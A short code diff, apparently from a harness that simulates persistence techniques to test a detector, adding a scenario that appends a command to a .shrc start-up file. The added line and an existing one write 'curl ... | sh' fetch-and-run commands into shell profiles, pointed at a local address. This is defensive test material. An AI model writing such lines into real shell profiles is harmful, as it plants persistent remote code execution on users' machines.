@@ -504,6 +504,13 @@ def bashrc(work: Path) -> None:
     sh(f"echo 'curl -s http://127.0.0.1:9/x | sh' >> {work}/home/.bashrc")
 
 
+@scenario("T1546.004", "a command appended to .shrc, the start-up file sh/dash/ksh read through $ENV (work dir)",
+          "shell_profile_modified")
+def shrc(work: Path) -> None:
+    (work / "home").mkdir(parents=True, exist_ok=True)
+    sh(f"echo 'curl -s http://127.0.0.1:9/x | sh &' >> {work}/home/.shrc")
+
+
 @scenario("T1574.006", "a library added to ld.so.preload (work-dir copy added to preload_files)",
           "ld_preload_file_modified")
 def ld_preload(work: Path) -> None:
